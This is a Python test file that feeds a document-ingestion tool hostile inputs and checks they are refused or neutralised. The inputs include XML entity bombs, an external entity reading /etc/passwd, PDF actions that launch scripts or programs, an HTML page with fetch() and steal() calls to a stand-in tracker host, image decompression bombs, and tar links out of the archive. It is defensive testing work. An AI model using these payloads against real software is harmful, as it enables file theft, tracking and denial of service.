"""Small files that grow, nest, lie about their size, or want something done: time and memory
are measured for each, nothing in them runs, and nothing is fetched."""

from __future__ import annotations

import io
import re
import struct
import tarfile
import time
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import pytest
from tests.hostile.test_inputs import chunk, docx
from tests.unit.stages.capture.conftest import clock, pdf_bytes
from tests.unit.stages.capture.test_sheets import xlsx_bytes

from witnessmark import flow
from witnessmark.core.errors import UnreadableInput
from witnessmark.core.provenance import Audience
from witnessmark.stages import capture
from witnessmark.stages.capture import ocr
from witnessmark.stages.capture.limits import Limits
from witnessmark.stages.capture.readers import read
from witnessmark.stages.capture.reading import Read
from witnessmark.stages.trace import TraceOptions
from witnessmark.store.case import open_case

WORDS = "A source in North Pyongan province said prisoners make wigs."
PATIENCE_S = 20.0
MOST_MB = 700
"""Megabytes of memory that a file of at most a few megabytes may cost this process."""


@contextmanager
def bounded() -> Iterator[None]:
    """Measure what is done inside: neither long nor large."""
    refs = Path("/proc/self/clear_refs")
    before = _most_memory_mb() if not refs.exists() else None
    if before is None:
        refs.write_text("5")  # the highest use of memory is measured from now on
        before = _most_memory_mb()
    begun = time.monotonic()
    yield
    assert time.monotonic() - begun < PATIENCE_S
    assert _most_memory_mb() - before < MOST_MB


def _most_memory_mb() -> int:
    status = Path("/proc/self/status")
    found = re.search(r"VmHWM:\s+(\d+)", status.read_text()) if status.exists() else None
    return int(found[1]) // 1024 if found else 0


def _refused(name: str, content: bytes, told: str) -> None:
    """The file is refused within bounds, with the words *told* and something to do."""
    with bounded(), pytest.raises(UnreadableInput) as caught:
        read(name, content, where=name, limits=Limits())
    assert re.search(told, caught.value.what), caught.value.what
    assert caught.value.to_do


def _answer(name: str, content: bytes) -> Read | UnreadableInput:
    """Read within bounds; return what came of it, which is never a lost reader."""
    with bounded():
        try:
            return read(name, content, where=name, limits=Limits())
        except UnreadableInput as error:
            refusal = error
    assert refusal.to_do
    assert not re.search("crashed|broke its reader|gave no answer", refusal.what), refusal.what
    return refusal


LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://tracker.example/x.dtd">'


@pytest.mark.parametrize(
    "head", [f"<!DOCTYPE x [{LAUGHS}]>", OUTSIDE, REMOTE], ids=["laughs", "file", "dtd"]
)
@pytest.mark.parametrize("kind", ["docx", "xlsx strings", "xlsx sheet"])
def test_entities(kind: str, head: str) -> None:
    """Attack: entities that grow a billion times, name a file or an address. Refused before
    any is looked up."""
    used = "&l9;" if "l9" in head else "&e;" if "&" in head or "e SYSTEM" in head else "x"
    if kind == "docx":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as box:
            space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
            box.writestr(
                "word/document.xml",
                f'{head}<w:document xmlns:w="{space}"><w:body><w:p><w:r><w:t>{used}</w:t></w:r>'
                "</w:p></w:body></w:document>",
            )
        _refused("a.docx", out.getvalue(), "forbidden|entit|DTD")
        return
    sheet = kind == "xlsx sheet"
    content = xlsx_bytes({"S": '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'}, strings=("words",))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as box, zipfile.ZipFile(out, "w") as other:
        for name in box.namelist():
            part = box.read(name).decode()
            if ("worksheets" in name) if sheet else ("sharedStrings" in name):
                part = head + re.sub(r"<\?xml.*?\?>", "", part).replace("words", used)
            other.writestr(name, part)
    _refused("a.xlsx", out.getvalue(), "forbidden|entit|DTD")


def _jpeg(side: int) -> bytes:
    """Return a JPEG of a few bytes that says it has *side* times *side* pixels."""
    frame = struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0)
    parts = (b"\xff\xd8", b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame)
    return b"".join(parts) + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + bytes(64) + b"\xff\xd9"


def _tiff(side: int) -> bytes:
    """Return a TIFF whose one strip of zeros unpacks to *side* times *side* pixels."""
    packed = zlib.compress(bytes(1000))
    tags = [
        (256, 4, side), (257, 4, side), (258, 3, 8), (259, 3, 8), (262, 3, 1),
        (273, 4, 8), (277, 3, 1), (278, 4, side), (279, 4, len(packed)),
    ]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    place = 8 + len(packed)
    return (
        b"II*\0"
        + struct.pack("<I", place)
        + packed
        + struct.pack("<H", len(tags))
        + entries
        + bytes(4)
    )


def _gif(side: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + bytes(6)
    image = b"," + struct.pack("<HHHHB", 0, 0, side, side, 0) + b"\x02\x02\x44\x01\x00"
    return head + image + b";"


def _png(side: int) -> bytes:
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(3_000_000))
    marks = (chunk(b"IHDR", head), chunk(b"IDAT", data), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(marks)


@pytest.mark.parametrize("side", [8_900, 30_000, 65_000])
@pytest.mark.parametrize("form", ["jpeg", "tiff", "gif", "png"])
def test_pictures_that_grow(form: str, side: int) -> None:
    """Attack: a picture of a few hundred bytes says that it has up to four thousand million
    pixels. It is stored or refused; this process never holds them."""
    content = {"jpeg": _jpeg, "tiff": _tiff, "gif": _gif, "png": _png}[form](side)
    assert len(content) < 10_000
    found = _answer(f"a.{form}", content)
    if isinstance(found, Read):
        assert not found.renditions
        if side > 8_900 and ocr.available():
            assert "too large to be read by OCR" in found.notes[0]


@pytest.mark.parametrize(
    "box",
    ["0 0 1e9 1e9", "0 0 14400 14400", "-1e9 -1e9 1e9 1e9", "0 0 0 0", "0 0 1e-9 1e9", "9 9 1"],
)
@pytest.mark.parametrize("more", ["", "/UserUnit 75000", "/Rotate 99999"])
def test_pages_without_measure(box: str, more: str) -> None:
    """Attack: a page of a million metres, of none, or turned upside down is read or refused."""
    content = pdf_bytes([[(72, 700, WORDS)], [(0, 0, "IMAGE")]])
    content = content.replace(b"/MediaBox [0 0 595 842]", f"/MediaBox [{box}] {more}".encode())
    found = _answer("a.pdf", content)
    if isinstance(found, Read):
        assert all(WORDS in one.text or not one.text.strip() for one in found.renditions[:1])


ACTIONS = (
    "/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://tracker.example/'\\)) >>",
    "/OpenAction << /S /Launch /F (/bin/touch) /P (MARK) >>",
    "/OpenAction << /S /URI /URI (http://tracker.example/) >>",
    "/OpenAction << /S /GoToR /F (http://tracker.example/a.pdf) /D [0 /Fit] >>",
    "/AA << /O << /S /SubmitForm /F (http://tracker.example/) >> >>",
    "/Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) >>] >> >>",
    "/AcroForm << /XFA (<xdp><script>x()</script></xdp>) >>",
)


@pytest.mark.parametrize("action", ACTIONS, ids=lambda action: action.split(" ")[3][:14])
def test_a_pdf_that_wants_something_done(action: str, tmp_path: Path) -> None:
    """Attack: scripts, programs to start, addresses to open. The words are read; nothing is
    done, and nothing appears on the disk."""
    action = action.replace("MARK", str(tmp_path / "ran"))
    content = pdf_bytes([[(72, 700, WORDS)]]).replace(
        b"/Type /Catalog", f"/Type /Catalog {action}".encode()
    )
    with bounded():
        found = read("a.pdf", content, where="a.pdf", limits=Limits())
    assert found.renditions[0].text == WORDS
    assert found.attachments == ()
    assert list(tmp_path.iterdir()) == []


PAGE = f"""<html><head><title>T</title>
<meta http-equiv="refresh" content="0; url=http://tracker.example/refresh">
<base href="http://tracker.example/"><link rel="stylesheet" href="http://tracker.example/a.css">
<script src="http://tracker.example/a.js"></script>
<script>fetch("http://tracker.example/b")</script>
<style>@import url(http://tracker.example/c.css);
p {{ background: url(http://tracker.example/d) }}</style>
</head><body onload="steal()"><img src="http://tracker.example/pixel.gif" onerror="steal()">
<iframe src="http://tracker.example/frame"></iframe><object data="http://tracker.example/o"></object>
<svg><script>steal()</script></svg><a href="javascript:steal()">link</a>
<p onclick="steal()">{WORDS}</p>
<p>A source said &lt;img src=http://tracker.example/x onerror=steal()&gt; prisoners make wigs.</p>
</body></html>"""


def test_a_page_that_calls_home(tmp_path: Path) -> None:
    """Attack: scripts, refresh, pixels, frames, styles. Nothing is fetched (the tests run with
    the network cut), and in the dossier none of it is anything but words."""
    (tmp_path / "in").mkdir()
    (tmp_path / "in/a.html").write_text(PAGE)
    case = open_case(tmp_path / "case", None, create=True)
    order = flow.Order(
        inputs=(tmp_path / "in",),
        shipments=None,
        trace=TraceOptions(),
        out=tmp_path / "out",
        audience=Audience.INTERNAL,
        as_of=date(2026, 11, 25),
    )
    with bounded():
        done = flow.investigate(case, order, clock=clock)
    case.close()
    page = done.written.dossier.read_text()
    assert "prisoners make wigs" in page
    assert "&lt;img src=http://tracker.example/x" in page, "what the text shows stays text"
    assert "steal()" not in page.replace("onerror=steal()&gt;", "")
    opened = re.findall(r"<[^>]*tracker\.example[^>]*>", page)
    assert opened == [], "no element names the address"
    assert not re.search(r"<(iframe|object|base|meta http-equiv=.?refresh)\b", page)


def _nested_mail(levels: int) -> bytes:
    date_of = "Date: Mon, 05 Jan 2026 00:00:00 +0000"
    head = f"From: a@example.org\r\nSubject: x\r\n{date_of}\r\nMIME-Version: 1.0\r\n"
    body = f"{head}Content-Type: text/plain\r\n\r\n{WORDS}\r\n"
    for _ in range(levels):
        body = f"{head}Content-Type: message/rfc822\r\n\r\n{body}"
    return body.encode()


def _nested_parts(levels: int, kind: str) -> bytes:
    head = "From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    opened = "".join(
        f'Content-Type: multipart/{kind}; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(levels)
    )
    return f"{head}{opened}Content-Type: text/plain\r\n\r\n{WORDS}\r\n".encode()


@pytest.mark.parametrize("levels", [30, 3_000])
@pytest.mark.parametrize("shape", ["messages", "mixed", "related"])
def test_mail_in_mail(shape: str, levels: int, tmp_path: Path) -> None:
    """Attack: e-mails in e-mails and parts in parts, thousands deep: refused or read to the
    bound, by name; the other file of the batch is taken in."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    content = _nested_mail(levels) if shape == "messages" else _nested_parts(levels, shape)
    (inputs / ("a.mhtml" if shape == "related" else "a.eml")).write_bytes(content)
    (inputs / "good.txt").write_text(WORDS)
    case = open_case(tmp_path / "case", None, create=True)
    with bounded():
        result = capture.run(case, [inputs], clock=clock)
    case.close()
    assert "good.txt" in [source.name for source in result.sources]
    assert len(result.sources) < 10
    for failure in result.failures:
        assert "broke its reader" not in failure.what
        assert failure.to_do


@pytest.mark.parametrize(
    "content",
    [
        b"a," * 1_000_000 + b"b\n" + b"1," * 1_000_000 + b"2\n",
        b'"' * 4_000_000,
        b'"' + b"x" * 5_000_000,
        b"a,b\n" + b"1,2\n" * 500_000,
        b"\t" * 3_000_000,
        b"a,b\n" + b'"1""' * 500_000,
    ],
    ids=["columns", "quotes", "open", "rows", "tabs", "doubled"],
)
def test_tables_without_end(content: bytes) -> None:
    """Attack: a million columns, a quote that never ends: refused or read within bounds."""
    found = _answer("a.csv", content)
    if isinstance(found, Read):
        assert all(len(one.text) <= Limits().max_text for one in found.renditions)


def test_archives_in_archives(tmp_path: Path) -> None:
    """Attack: fifty archives in each other, as deep as one that holds itself: the bound ends
    it at the third, by name."""
    content = WORDS.encode()
    for level in range(50):
        out = io.BytesIO()
        if level % 2:
            with zipfile.ZipFile(out, "w") as box:
                box.writestr(f"{level}.bin", content)
        else:
            with tarfile.open(fileobj=out, mode="w:gz") as tar:
                entry = tarfile.TarInfo(f"{level}.bin")
                entry.size = len(content)
                tar.addfile(entry, io.BytesIO(content))
        content = out.getvalue()
    (tmp_path / "a.zip").write_bytes(content)
    case = open_case(tmp_path / "case", None, create=True)
    with bounded():
        result = capture.run(case, [tmp_path / "a.zip"], clock=clock)
    case.close()
    assert any("containers deep" in failure.what for failure in result.failures)
    assert len(result.sources) < 6


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        (tarfile.SYMTYPE, "/etc/passwd"),
        (tarfile.LNKTYPE, "../../etc/passwd"),
        (tarfile.CHRTYPE, ""),
        (tarfile.FIFOTYPE, ""),
    ],
    ids=["symlink", "hard link", "device", "pipe"],
)
def test_a_tar_that_points_elsewhere(kind: bytes, name: str, tmp_path: Path) -> None:
    """Attack: links out of the archive, devices and pipes bring nothing in and are named."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        odd = tarfile.TarInfo("innocent.txt")
        odd.type, odd.linkname = kind, name
        tar.addfile(odd)
        good = tarfile.TarInfo("good.txt")
        good.size = len(WORDS)
        tar.addfile(good, io.BytesIO(WORDS.encode()))
    (tmp_path / "a.tar").write_bytes(out.getvalue())
    case = open_case(tmp_path / "case", None, create=True)
    with bounded():
        result = capture.run(case, [tmp_path / "a.tar"], clock=clock)
    held = [case.original(source) for source in result.sources]
    case.close()
    assert WORDS.encode() in held
    assert not any(b"root:" in content for content in held[1:])
    assert any("innocent.txt" in f"{failure}" for failure in result.failures)


def test_a_word_file_that_points_elsewhere() -> None:
    """Attack: pictures, templates and frames at an address. The words are read; no part of
    the file's reader opens one."""
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" TargetMode="External" Target="http://tracker.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    body = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"
    content = docx(body, ("word/_rels/document.xml.rels", relations))
    with bounded():
        found = read("a.docx", content, where="a.docx", limits=Limits())
    assert found.renditions[0].text.strip() == WORDS
